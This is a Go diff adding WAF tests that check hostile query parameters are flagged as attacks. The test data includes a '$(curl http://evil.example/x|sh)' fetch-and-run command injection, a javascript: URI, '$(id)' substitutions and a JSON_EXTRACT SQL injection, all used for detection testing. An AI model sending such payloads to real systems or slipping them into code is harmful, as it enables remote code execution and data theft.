@@ -1,6 +1,7 @@
 package waf
 
 import (
+	"net/url"
 	"os"
 	"path/filepath"
 	"testing"
@@ -84,6 +85,21 @@ func TestTunedSameNameInQueryAndBody(t *testing.T) {
 	g := at(t, 1)
 	for _, query := range []string{"", "json.text=$(id)", "json.text=x"} {
 		if v := g.rule(t.Context(), request(t, 0, query, `{"text":"$(id)"}`)); v.Code != "waf.attack" {
+			t.Errorf("%q: %+v", query, v)
+		}
+	}
+}
+
+// What a shell or a browser would run is refused in a parameter as well.
+func TestTunedArguments(t *testing.T) {
+	g := at(t, 1)
+	for query, code := range map[string]string{
+		"q=" + url.QueryEscape("$(curl http://evil.example/x|sh)"):              "waf.attack",
+		"q=" + url.QueryEscape("javascript:open(name)"):                         "waf.attack",
+		"q=" + url.QueryEscape(`1' or JSON_EXTRACT('{"id":14}','$.id')=14 -- `): "waf.attack",
+		"q=" + url.QueryEscape("the price is $(amount) and more"):               "",
+	} {
+		if v := g.rule(t.Context(), request(t, 0, query, `{}`)); v.Code != code {
 			t.Errorf("%q: %+v", query, v)
 		}
 	}
